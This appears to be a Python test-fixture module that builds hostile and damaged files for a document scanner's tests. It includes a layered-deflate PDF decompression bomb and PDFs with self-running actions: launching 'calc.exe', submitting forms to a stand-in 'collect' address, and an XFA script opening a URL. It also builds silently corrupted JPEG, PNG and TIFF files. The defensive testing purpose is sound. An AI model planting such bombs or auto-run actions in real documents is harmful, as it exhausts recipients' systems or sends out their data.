"""Hostile and damaged samples beyond the basic corpus, built in memory from scratch or from good
files: PDFs with object streams (a deflate bomb among them), PDFs whose actions run by
themselves or whose form is an XFA form, and JPEG, PNG and TIFF files damaged in ways that
their decoders repair without an error.

`corpus()` in tests/documents/corpus.py lists them with their expected verdicts; the builders
are public for tests that need one particular file.
"""

import io
import random
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

# A PDF writer's 7-bit-clean comment after the header, as most writers put it.
_PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf_with_object_streams_bytes(*, streams: int = 2, padding: int = 0, layers: int = 1) -> bytes:
    """A one-page PDF whose catalogue refers to one object in each of `streams` object streams,
    listed by a cross-reference stream, as PDF 1.5 writers lay them out.

    Each object stream's decoded data starts with `padding` spaces (legal white space before
    its header) and is deflated `layers` times over (a /FlateDecode filter chain). With padding
    in the tens of megabytes and two layers, each stream is a few hundred bytes on disk that
    inflate to tens of megabytes, which pypdf would then read one byte at a time.
    """
    out = io.BytesIO()
    out.write(_PDF_HEADER)
    offsets: dict[int, int] = {}

    def write_object(number: int, body: bytes, stream: bytes | None = None) -> None:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body)
        if stream is not None:
            out.write(b"\nstream\n" + stream + b"\nendstream")
        out.write(b"\nendobj\n")

    contained = [5 + 2 * index for index in range(streams)]
    references = b" ".join(b"%d 0 R" % number for number in contained)
    write_object(1, b"<< /Type /Catalog /Pages 2 0 R /Extra [" + references + b"] >>")
    write_object(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    write_object(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    # The spaces are compressed once; each stream continues from a copy of that state.
    compressor = zlib.compressobj(9)
    spaces = compressor.compress(b" " * padding)
    filters = b"[" + b" ".join([b"/FlateDecode"] * layers) + b"]"
    for number in contained:
        header = b"%d 0 " % number
        tail = compressor.copy()
        data = spaces + tail.compress(header + b"<< /Kind /Filler >>") + tail.flush()
        for _ in range(layers - 1):
            data = zlib.compress(data, 9)
        first = padding + len(header)
        body = b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>" % (
            first,
            filters,
            len(data),
        )
        write_object(number - 1, body, data)
    xref_number = 4 + 2 * streams
    xref_offset = out.tell()
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2))
        elif number == xref_number:
            rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + bytes(2))
        else:  # compressed: the object stream's number, and the index within it
            rows.append(b"\x02" + (number - 1).to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    body = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (
        xref_number + 1,
        len(table),
    )
    write_object(xref_number, body, table)
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    return out.getvalue()


# -- PDF actions and forms --------------------------------------------------------------------

# Action types (ISO 32000-1, 12.6.4) that reach outside the file or play media.
OUTWARD_ACTION_KINDS = (
    "URI",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "Launch",
    "Rendition",
    "Movie",
    "Sound",
)
# Where an action runs by itself, and "link", where the reader has to click it.
ACTION_PLACES = ("open_action", "catalog_aa", "page_aa", "widget_aa", "chained", "link")


def pdf_with_action_bytes(kind: str, where: str = "open_action") -> bytes:
    """A one-page blank PDF with an action of type `kind` (one of OUTWARD_ACTION_KINDS, or
    "GoTo"): the document's /OpenAction ("open_action"); in the additional actions (/AA) of
    the catalogue, run before the document closes ("catalog_aa"), of the page, run when it
    opens ("page_aa"), or of a form field's widget, run when the pointer enters it
    ("widget_aa"); chained through /Next after a harmless GoTo open action ("chained"); or
    behind a link annotation, run only when clicked ("link")."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    action = writer._add_object(_action(writer, kind))
    if where == "open_action":
        writer._root_object[NameObject("/OpenAction")] = action
    elif where == "catalog_aa":
        writer._root_object[NameObject("/AA")] = _dictionary(WC=action)
    elif where == "page_aa":
        page[NameObject("/AA")] = _dictionary(O=action)
    elif where == "widget_aa":
        widget = _annotation("/Widget", FT=NameObject("/Btn"), T=TextStringObject("ok"))
        widget[NameObject("/AA")] = _dictionary(E=action)
        reference = writer._add_object(widget)
        page[NameObject("/Annots")] = ArrayObject([reference])
        form = _dictionary(Fields=ArrayObject([reference]))
        writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    elif where == "chained":
        first = _action(writer, "GoTo")
        first[NameObject("/Next")] = ArrayObject([action])
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)
    elif where == "link":
        link = _annotation("/Link", A=action)
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    else:
        raise ValueError(where)
    return _written(writer)


XFA_TEMPLATE = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b'xfa.host.gotoURL("http://example.invalid/");</script></event></subform></template>'
)


def pdf_with_xfa_bytes() -> bytes:
    """A one-page blank PDF whose interactive form is an XFA form, its template carrying a
    script that runs when the form is initialised (inside a stream, which is never decoded)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    template = writer._add_object(_stream(XFA_TEMPLATE))
    form = _dictionary(
        Fields=ArrayObject(), XFA=ArrayObject([TextStringObject("template"), template])
    )
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _written(writer)


def _action(writer: PdfWriter, kind: str) -> DictionaryObject:
    """An action dictionary of type `kind` with the entries its type requires."""
    address = TextStringObject("http://example.invalid/collect")
    destination = ArrayObject([NumberObject(0), NameObject("/Fit")])
    entries: dict[str, object] = {
        "URI": {"URI": address},
        "SubmitForm": {"F": _dictionary(FS=NameObject("/URL"), F=address)},
        "ImportData": {"F": TextStringObject("answers.fdf")},
        "GoToR": {"F": TextStringObject("other.pdf"), "D": destination},
        "GoToE": {
            "T": _dictionary(R=NameObject("/C"), N=TextStringObject("inside")),
            "D": destination,
        },
        "Launch": {"F": TextStringObject("calc.exe")},
        "Rendition": {"OP": NumberObject(0)},
        "Movie": {"T": TextStringObject("clip")},
        "Sound": {"Sound": writer._add_object(_sound())},
        "GoTo": {"D": ArrayObject([NumberObject(0), NameObject("/Fit")])},
    }[kind]
    return _dictionary(S=NameObject("/" + kind), **entries)


def _sound() -> DecodedStreamObject:
    sound = _stream(bytes(800))
    sound.update({NameObject("/Type"): NameObject("/Sound"), NameObject("/R"): NumberObject(8000)})
    return sound


def _annotation(subtype: str, **entries: object) -> DictionaryObject:
    rectangle = ArrayObject([FloatObject(value) for value in (10, 10, 60, 60)])
    annotation = _dictionary(Type=NameObject("/Annot"), Subtype=NameObject(subtype), Rect=rectangle)
    annotation.update({NameObject("/" + key): value for key, value in entries.items()})
    return annotation


def _dictionary(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + key): value for key, value in entries.items()})


def _stream(data: bytes) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    return stream


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# -- images damaged in ways their decoders repair silently -----------------------------------


def jpeg_with_corrupt_data(good: bytes, *, length: int = 1024) -> bytes:
    """`good` (a baseline JPEG) with `length` bytes in the middle of its entropy-coded data
    overwritten with noise, as a damaged disk sector or transfer leaves it, never touching a
    0xFF byte or the byte after one (so no marker is made or unmade): libjpeg warns "Corrupt
    JPEG data" and decodes garbage, Pillow raises nothing. (Huffman codes resynchronise, so a
    few changed bytes often go unnoticed even by libjpeg; a run this long does not.)"""
    data = bytearray(good)
    marker = data.find(b"\xff\xda")
    start = marker + 2 + int.from_bytes(data[marker + 2 : marker + 4], "big")
    middle = (start + data.rfind(b"\xff\xd9") - length) // 2
    noise = random.Random(11)
    for offset in range(middle, middle + length):
        if 0xFF not in data[offset - 1 : offset + 1]:
            data[offset] = noise.randrange(0xFF)
    return bytes(data)


def png_chunks(data: bytes) -> list[tuple[int, bytes, int]]:
    """(offset, type, declared length) of each chunk of a well-formed PNG."""
    found = []
    offset = 8
    while offset < len(data):
        length = int.from_bytes(data[offset : offset + 4], "big")
        found.append((offset, bytes(data[offset + 4 : offset + 8]), length))
        offset += 12 + length
    return found


def png_with_bad_idat_crc(good: bytes) -> bytes:
    """`good` with one byte of its last IDAT chunk's CRC flipped; the pixels decode unharmed."""
    offset, _kind, length = [chunk for chunk in png_chunks(good) if chunk[1] == b"IDAT"][-1]
    data = bytearray(good)
    data[offset + 8 + length] ^= 0xFF
    return bytes(data)


def png_with_overlong_chunk(good: bytes, *, extra: int = 100) -> bytes:
    """`good` whose last IDAT chunk declares `extra` bytes more than it has, so that the IEND
    chunk sits inside it and its declared end lies past the end of the file."""
    offset, _kind, length = [chunk for chunk in png_chunks(good) if chunk[1] == b"IDAT"][-1]
    data = bytearray(good)
    data[offset : offset + 4] = (length + extra).to_bytes(4, "big")
    return bytes(data)


def tiff_with_bad_code_word(good: bytes, *, page: int) -> bytes:
    """`good` (a TIFF of CCITT Group 4 pages, one strip each, as Pillow writes them) with a
    byte in the middle of page `page`'s strip inverted: libtiff reports bad code words and
    returns the rest of the page blank, Pillow raises nothing."""
    with Image.open(io.BytesIO(good)) as image:
        image.seek(page - 1)
        (strip,) = image.tag_v2[273]  # StripOffsets
        (length,) = image.tag_v2[279]  # StripByteCounts
    data = bytearray(good)
    data[strip + length // 2] ^= 0xFF
    return bytes(data)
